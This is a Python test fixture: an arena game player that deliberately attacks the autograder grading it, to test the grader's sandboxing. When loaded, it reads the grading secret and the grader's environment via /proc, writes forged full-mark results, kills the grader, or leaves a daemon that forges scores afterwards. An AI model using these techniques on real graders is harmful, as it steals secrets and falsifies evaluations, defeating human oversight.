"""A Python player that attacks the Gradescope autograder grading it, as a
trial of an unsandboxed autograder did (docs/security.md), for the arena's
tests. `orders.txt` beside it holds the attack and the report file, where
it notes what each attempt got. It attacks once loaded, and plays as the
tests' MOBILE does: left alone, it passes Easy and Medium.

- thief: reads the grading secret, the grader's environment and the
  grading run's file (its seed); lists the results' folder.
- forger: writes results.json with full marks, then SIGKILLs the grader.
- daemon: leaves a `setsid` daemon that waits for the grader to end, then
  writes results.json with full marks.
- slow: takes its time over each move (the test kills the grader meanwhile).

The grader is the process that started it (its parent), as /proc shows
any process: its command line names the secret and results.json.
"""

import os
import signal
import time

from arena_player import TrapPlayer

HERE = os.path.dirname(os.path.abspath(__file__))
with open(os.path.join(HERE, "orders.txt")) as orders:
    ATTACK, REPORT = orders.read().split()

FORGED = '{"score": 1000, "output": "forged"}\n'


def note(line):
    with open(REPORT, "a") as report:
        report.write(line + "\n")


def attempt(what, action):
    try:
        action()
        note(f"{what}: SUCCEEDED")
    except OSError as e:
        note(f"{what}: {e.strerror}")


def read(path):
    with open(path, "rb") as f:
        note(f"read {path}: {f.read()!r}")


def write_results(path):
    with open(path, "w") as f:
        f.write(FORGED)


def alive(pid):
    try:
        os.kill(pid, 0)
    except ProcessLookupError:
        return False
    except PermissionError:
        pass
    return True


def daemon(grader, results):
    """A daemon in a session of its own: outlives its worker's process group."""
    if os.fork():
        os.wait()
        return
    os.setsid()
    if os.fork():
        os._exit(0)
    null = os.open(os.devnull, os.O_RDWR)
    for fd in (0, 1, 2):
        os.dup2(null, fd)
    note(f"daemon {os.getpid()}: started")
    deadline = time.time() + 60
    while alive(grader) and time.time() < deadline:
        time.sleep(0.02)
    note(f"daemon {os.getpid()}: outlived the grader")
    attempt("daemon: write the results", lambda: write_results(results))
    os._exit(0)


def attack():
    grader = os.getppid()
    with open(f"/proc/{grader}/cmdline", "rb") as f:
        args = f.read().decode().split("\0")
    secret, results = args[args.index("--secret") + 1], args[args.index("--results") + 1]
    note(f"uid {os.getuid()} grader {grader}")
    if ATTACK == "thief":
        attempt("read the secret", lambda: read(secret))
        attempt("read the grader's environment", lambda: read(f"/proc/{grader}/environ"))
        attempt("read the grading run", lambda: read(f"/tmp/arena-grade-{grader}/run/grade.toml"))
        attempt("list the results", lambda: note(f"results: {os.listdir(os.path.dirname(results))}"))
    elif ATTACK == "forger":
        attempt("write the results", lambda: write_results(results))
        attempt("kill the grader", lambda: os.kill(grader, signal.SIGKILL))
    elif ATTACK == "daemon":
        daemon(grader, results)
    elif ATTACK == "slow":
        note("slow: started")


attack()


class Attacker(TrapPlayer):
    name = "attacker"

    def room(self, state, cell):
        return len([n for n in state.neighbors(cell) if state.is_free(n)])

    def get_move(self, state):
        if ATTACK == "slow":
            time.sleep(0.2)
        return max(state.legal_moves(), key=lambda c: self.room(state, c))

    def get_trap(self, state):
        free = [c for c in state.neighbors(state.opponent) if state.is_free(c)]
        return max(free, key=lambda c: self.room(state, c))
